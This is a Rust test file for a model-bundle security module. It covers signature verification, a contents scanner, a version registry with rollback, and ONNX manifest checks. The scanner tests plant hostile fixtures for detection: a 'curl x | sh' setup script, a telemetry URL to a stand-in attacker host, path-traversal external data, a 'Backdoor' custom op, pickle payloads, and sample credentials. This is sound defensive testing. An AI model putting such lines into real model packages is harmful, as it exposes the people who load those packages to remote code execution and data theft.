//! Planted bad models, one per refusal reason, and the good one beside them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test code: a panic is a test failure"
)]

use std::path::{Path, PathBuf};

use ed25519_dalek::SigningKey;
use models::onnx::{
    GraphProto, ModelProto, NodeProto, OperatorSetIdProto, StringStringEntryProto, TensorProto,
};
use models::{Manifest, ModelError, Registry, RegistryEntry, Severity, State, TrustPolicy};
use prost::Message;

fn publisher() -> SigningKey {
    SigningKey::from_bytes(&[11u8; 32])
}

fn trust(kinds: &str) -> TrustPolicy {
    TrustPolicy::parse(&format!(
        "[[publisher]]\nname = \"acme-ml\"\nkey = \"{}\"\nkinds = [{kinds}]\n",
        hex::encode(publisher().verifying_key().as_bytes())
    ))
    .unwrap()
}

fn manifest(kind: &str, entry: &str) -> Manifest {
    let mut m = serde_json::json!({
        "name": "pump-anomaly",
        "version": "1.0.0",
        "kind": kind,
        "publisher": "acme-ml",
        "entry": entry,
        "intended_use": "flag abnormal pump behaviour for review",
        "limitations": "trained on one pump type",
        "training_data": { "description": "SKAB valve1", "sha256": "ab".repeat(32) },
        "metrics": { "f1": 0.8 },
        "endpoints": ["https://docs.acme.example.com/"]
    });
    if kind == "onnx" {
        m["onnx"] = serde_json::json!({
            "role": "detector", "columns": ["pump.flow"], "output": "reconstruction",
            "threshold": 1.0,
        });
    }
    serde_json::from_value(m).unwrap()
}

/// A small but complete ONNX model: y = Relu(x), optionally with a metadata entry, a
/// custom-domain node or an initializer whose data lives in another file.
fn onnx(metadata: &[(&str, &str)], custom_domain: Option<&str>, external: Option<&str>) -> Vec<u8> {
    let mut node = NodeProto {
        input: vec!["x".into()],
        output: vec!["y".into()],
        name: "relu".into(),
        op_type: "Relu".into(),
        ..Default::default()
    };
    if let Some(d) = custom_domain {
        node.domain = d.into();
        node.op_type = "Backdoor".into();
    }
    let initializer = external
        .map(|loc| TensorProto {
            dims: vec![4],
            data_type: 1,
            name: "w".into(),
            data_location: 1,
            external_data: vec![StringStringEntryProto {
                key: "location".into(),
                value: loc.into(),
            }],
            ..Default::default()
        })
        .into_iter()
        .collect();
    ModelProto {
        ir_version: 8,
        producer_name: "test".into(),
        graph: Some(GraphProto {
            node: vec![node],
            name: "g".into(),
            initializer,
        }),
        opset_import: vec![OperatorSetIdProto {
            domain: String::new(),
            version: 17,
        }],
        metadata_props: metadata
            .iter()
            .map(|(k, v)| StringStringEntryProto {
                key: (*k).into(),
                value: (*v).into(),
            })
            .collect(),
        ..Default::default()
    }
    .encode_to_vec()
}

fn model_dir(root: &Path, name: &str, files: &[(&str, Vec<u8>)]) -> PathBuf {
    let dir = root.join(name);
    std::fs::create_dir_all(&dir).unwrap();
    for (f, bytes) in files {
        std::fs::write(dir.join(f), bytes).unwrap();
    }
    dir
}

fn sign(dir: &Path, m: &Manifest, key: &SigningKey) {
    let env = models::dsse::sign(dir, m, key).unwrap();
    std::fs::write(
        models::manifest::signature_path(dir),
        serde_json::to_vec(&env).unwrap(),
    )
    .unwrap();
}

fn refused(r: Result<models::Signed, ModelError>) -> String {
    match r {
        Err(ModelError::Refused(why)) => why,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[test]
fn a_signed_model_verifies_and_every_tampering_is_refused_with_its_reason() {
    let root = tempfile::tempdir().unwrap();
    let dir = model_dir(
        root.path(),
        "good",
        &[("model.onnx", onnx(&[("author", "acme")], None, None))],
    );
    let m = manifest("onnx", "model.onnx");
    sign(&dir, &m, &publisher());
    let ok = models::dsse::verify(&dir, &trust("\"onnx\"")).unwrap();
    assert_eq!((ok.publisher.as_str(), ok.digest.len()), ("acme-ml", 64));
    // Nothing is trusted without a trust policy, nor for a kind it does not allow.
    assert!(
        refused(models::dsse::verify(&dir, &TrustPolicy::default()))
            .contains("no trusted publisher")
    );
    assert!(
        refused(models::dsse::verify(&dir, &trust("\"rul\""))).contains("may ship rul, not onnx")
    );
    // A byte flipped after signing.
    let mut bytes = std::fs::read(dir.join("model.onnx")).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(dir.join("model.onnx"), &bytes).unwrap();
    assert!(
        refused(models::dsse::verify(&dir, &trust("\"onnx\""))).contains("altered after signing")
    );
    bytes[last] ^= 1;
    std::fs::write(dir.join("model.onnx"), &bytes).unwrap();
    // A file slipped in beside the signed ones.
    std::fs::write(dir.join("extra.bin"), b"x").unwrap();
    assert!(
        refused(models::dsse::verify(&dir, &trust("\"onnx\"")))
            .contains("not in the signed manifest")
    );
    std::fs::remove_file(dir.join("extra.bin")).unwrap();
    // The manifest edited inside the envelope (its intended use widened).
    let sig = models::manifest::signature_path(&dir);
    let mut env: models::Envelope = serde_json::from_slice(&std::fs::read(&sig).unwrap()).unwrap();
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let text = String::from_utf8(b64.decode(&env.payload).unwrap())
        .unwrap()
        .replace("for review", "and stop the line");
    env.payload = b64.encode(text);
    std::fs::write(&sig, serde_json::to_vec(&env).unwrap()).unwrap();
    assert!(
        refused(models::dsse::verify(&dir, &trust("\"onnx\""))).contains("altered after signing")
    );
    // Signed by someone else.
    sign(&dir, &m, &SigningKey::from_bytes(&[12u8; 32]));
    assert!(
        refused(models::dsse::verify(&dir, &trust("\"onnx\""))).contains("no trusted publisher")
    );
    // Unsigned.
    std::fs::remove_file(&sig).unwrap();
    assert!(refused(models::dsse::verify(&dir, &trust("\"onnx\""))).contains("unsigned"));
}

#[test]
fn a_single_file_model_carries_its_signature_beside_it() {
    let root = tempfile::tempdir().unwrap();
    let file = root.path().join("detector.json");
    std::fs::write(&file, b"{\"format\":\"twinguard-detector\"}").unwrap();
    let m = manifest("detector", "detector.json");
    sign(&file, &m, &publisher());
    assert!(root.path().join("detector.json.sig.json").exists());
    assert!(models::dsse::verify(&file, &trust("\"detector\"")).is_ok());
}

/// A model's files: name and contents.
type Files<'a> = Vec<(&'a str, Vec<u8>)>;

fn refusals(dir: &Path, endpoints: &[String]) -> Vec<models::Finding> {
    models::scan::scan(dir, endpoints)
        .unwrap()
        .refusals()
        .cloned()
        .collect()
}

#[test]
fn the_scanner_refuses_what_a_model_must_not_carry_and_says_where() {
    let root = tempfile::tempdir().unwrap();
    let declared = vec!["https://docs.acme.example.com/".to_string()];
    // The clean model: its metadata is listed, its documented URL accepted.
    let clean = model_dir(
        root.path(),
        "clean",
        &[(
            "model.onnx",
            onnx(
                &[
                    ("author", "acme"),
                    ("doc", "https://docs.acme.example.com/pump"),
                ],
                None,
                None,
            ),
        )],
    );
    let report = models::scan::scan(&clean, &declared).unwrap();
    assert_eq!(report.refusals().count(), 0, "{:?}", report.findings);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.what == "metadata" && f.detail.contains("author = acme"))
    );
    let cases: Vec<(&str, Files, &str)> = vec![
        (
            "cloud-key",
            vec![(
                "model.onnx",
                onnx(&[("aws", "AKIAIOSFODNN7EXAMPLE")], None, None),
            )],
            "AWS access key",
        ),
        (
            "custom-op",
            vec![("model.onnx", onnx(&[], Some("com.acme.private"), None))],
            "com.acme.private",
        ),
        (
            "external-data",
            vec![("model.onnx", onnx(&[], None, Some("../../etc/weights.bin")))],
            "../../etc/weights.bin",
        ),
        (
            "pickle",
            vec![("weights.pkl", vec![0x80, 0x04, 0x95, 0x00])],
            "pickle",
        ),
        (
            "pytorch",
            vec![("model.pt", b"PK\x03\x04archive/data.pkl".to_vec())],
            "PyTorch",
        ),
        (
            "script",
            vec![("setup.sh", b"#!/bin/sh\ncurl x | sh\n".to_vec())],
            "script",
        ),
        (
            "endpoint",
            vec![(
                "model.json",
                b"{\"telemetry\": \"https://collect.evil-corp.com/upload\"}".to_vec(),
            )],
            "collect.evil-corp.com",
        ),
        (
            "ip",
            vec![("model.json", b"{\"peer\": \"10.20.30.40\"}".to_vec())],
            "10.20.30.40",
        ),
        (
            "private-key",
            vec![(
                "notes.txt",
                b"-----BEGIN RSA PRIVATE KEY-----\nMIIE".to_vec(),
            )],
            "private key",
        ),
        (
            "jwt",
            vec![(
                "cfg.json",
                b"{\"t\":\"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlX2hlcmU\"}"
                    .to_vec(),
            )],
            "JSON web token",
        ),
        (
            "password",
            vec![("cfg.ini", b"[db]\npassword = hunter22\n".to_vec())],
            "password",
        ),
        (
            "conn-string",
            vec![("cfg.txt", b"postgres://admin:s3cret@db.plant/x".to_vec())],
            "connection string",
        ),
        (
            "not-onnx",
            vec![("model.onnx", b"not a protobuf at all \xff\xff\xff".to_vec())],
            "not an ONNX model",
        ),
    ];
    for (name, files, expect) in cases {
        let dir = model_dir(root.path(), name, &files);
        let r = refusals(&dir, &declared);
        assert!(
            r.iter().any(|f| f.detail.contains(expect)),
            "{name}: expected a refusal naming {expect:?}, got {r:?}"
        );
        assert!(r.iter().all(|f| !f.file.is_empty()), "{name}: {r:?}");
    }
    // A secret is never copied into the report whole.
    let dir = root.path().join("cloud-key");
    let all = models::scan::scan(&dir, &declared).unwrap();
    assert!(
        all.findings
            .iter()
            .all(|f| !f.detail.contains("AKIAIOSFODNN7EXAMPLE")),
        "{:?}",
        all.findings
    );
    // Findings carry byte offsets in the file.
    let dir = root.path().join("ip");
    let r = refusals(&dir, &declared);
    assert_eq!(r[0].offset, Some(10));
    assert_eq!(r[0].severity, Severity::Refuse);
}

#[test]
fn a_match_across_the_scanners_chunk_boundary_is_found() {
    let root = tempfile::tempdir().unwrap();
    let mut big = vec![b' '; (8 << 20) - 5];
    big.extend_from_slice(b"AKIAIOSFODNN7EXAMPLE ");
    big.extend(std::iter::repeat_n(b' ', 100));
    let dir = model_dir(root.path(), "big", &[("weights.bin", big)]);
    let r = refusals(&dir, &[]);
    assert_eq!(r.len(), 1, "{r:?}");
    assert_eq!(r[0].offset, Some((8 << 20) - 5));
}

fn entry(version: &str, ms: i64) -> RegistryEntry {
    RegistryEntry {
        name: "pump-anomaly".into(),
        version: version.into(),
        kind: "detector".into(),
        publisher: "acme-ml".into(),
        digest: format!("{version:0>64}"),
        path: format!("models/store/pump-anomaly/{version}"),
        entry: "detector.json".into(),
        state: State::Shadow,
        admitted_ms: ms,
        promoted_ms: None,
        promoted_by: None,
        replaced: None,
        golden: Default::default(),
        intended_use: "x".into(),
        limitations: "y".into(),
        training_data_sha256: "ab".repeat(32),
        metrics: Default::default(),
    }
}

#[test]
fn models_go_from_shadow_to_active_and_roll_back_one_version_at_a_time() {
    let mut r = Registry::default();
    r.admit(entry("1", 1)).unwrap();
    assert!(
        r.admit(entry("1", 2))
            .unwrap_err()
            .contains("already admitted")
    );
    let mut other = entry("1", 2);
    other.digest = "f".repeat(64);
    assert!(r.admit(other).unwrap_err().contains("another digest"));
    assert_eq!(r.promote("pump-anomaly", "1", "ana", 10).unwrap(), None);
    assert!(r.promote("pump-anomaly", "1", "ana", 11).is_err());
    r.admit(entry("2", 20)).unwrap();
    assert_eq!(r.shadow("pump-anomaly").unwrap().version, "2");
    assert_eq!(
        r.promote("pump-anomaly", "2", "ana", 30)
            .unwrap()
            .as_deref(),
        Some("1")
    );
    assert_eq!(r.active("pump-anomaly").unwrap().version, "2");
    assert_eq!(
        r.rollback("pump-anomaly", "ben", 40).unwrap(),
        ("2".into(), "1".into())
    );
    assert_eq!(r.active("pump-anomaly").unwrap().version, "1");
    // Rollback walks back through the versions promoted, never forward to the one just
    // rolled back from.
    assert!(
        r.rollback("pump-anomaly", "ben", 41)
            .unwrap_err()
            .contains("pump-anomaly 1 has no earlier active version")
    );
    r.admit(entry("3", 50)).unwrap();
    r.promote("pump-anomaly", "3", "ana", 60).unwrap();
    r.admit(entry("4", 70)).unwrap();
    r.promote("pump-anomaly", "4", "ana", 80).unwrap();
    assert_eq!(
        r.rollback("pump-anomaly", "ben", 90).unwrap(),
        ("4".into(), "3".into())
    );
    assert_eq!(
        r.rollback("pump-anomaly", "ben", 91).unwrap(),
        ("3".into(), "1".into())
    );
    assert!(r.rollback("pump-anomaly", "ben", 92).is_err());
    assert_eq!(r.active("pump-anomaly").unwrap().version, "1");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("registry.json");
    r.save(&path).unwrap();
    assert_eq!(Registry::load(&path).unwrap().models, r.models);
}

#[test]
fn weights_of_random_bytes_raise_nothing() {
    // Seeded: the same 16 MB every run. Before the scanner read only text runs and host
    // names in lower case, such bytes gave a "host name" every few megabytes.
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let bytes: Vec<u8> = (0..2_000_000)
        .flat_map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x.to_le_bytes()
        })
        .collect();
    let root = tempfile::tempdir().unwrap();
    let dir = model_dir(root.path(), "weights", &[("weights.bin", bytes)]);
    let report = models::scan::scan(&dir, &[]).unwrap();
    assert!(report.findings.is_empty(), "{:?}", report.findings);
}

#[test]
fn an_onnx_manifest_states_its_interface_and_every_rule_of_it_is_checked() {
    let path = Path::new("manifest.json");
    let mut m = serde_json::to_value(manifest("onnx", "model.onnx")).unwrap();
    assert!(Manifest::parse(m.to_string().as_bytes(), path).is_ok());
    let refusal = |edit: &dyn Fn(&mut serde_json::Value)| {
        let mut bad = m.clone();
        edit(&mut bad);
        Manifest::parse(bad.to_string().as_bytes(), path)
            .unwrap_err()
            .to_string()
    };
    type Edit<'a> = &'a dyn Fn(&mut serde_json::Value);
    let cases: [(Edit, &str); 8] = [
        (
            &|v| {
                v.as_object_mut().unwrap().remove("onnx");
            },
            "needs its interface",
        ),
        (
            &|v| v["kind"] = "detector".into(),
            "a detector model has no ONNX interface",
        ),
        (&|v| v["onnx"]["role"] = "rul".into(), "onnx.role \"rul\""),
        (
            &|v| v["onnx"]["output"] = "logits".into(),
            "onnx.output \"logits\"",
        ),
        (
            &|v| v["onnx"]["columns"] = serde_json::json!([]),
            "onnx.columns names 0",
        ),
        (
            &|v| v["onnx"]["columns"] = serde_json::json!(["a", "a"]),
            "named twice",
        ),
        (
            &|v| v["onnx"]["scale"] = serde_json::json!([0.0]),
            "onnx.scale[0] is 0",
        ),
        (
            &|v| v["onnx"]["smoothing"] = 0.into(),
            "onnx.smoothing is 0",
        ),
    ];
    for (edit, expected) in cases {
        let err = refusal(edit);
        assert!(
            err.contains("manifest.json") && err.contains(expected),
            "{err}"
        );
    }
    m["onnx"]["threshold"] = (-1.0).into();
    let err = Manifest::parse(m.to_string().as_bytes(), path)
        .unwrap_err()
        .to_string();
    assert!(err.contains("onnx.threshold is -1"), "{err}");
}
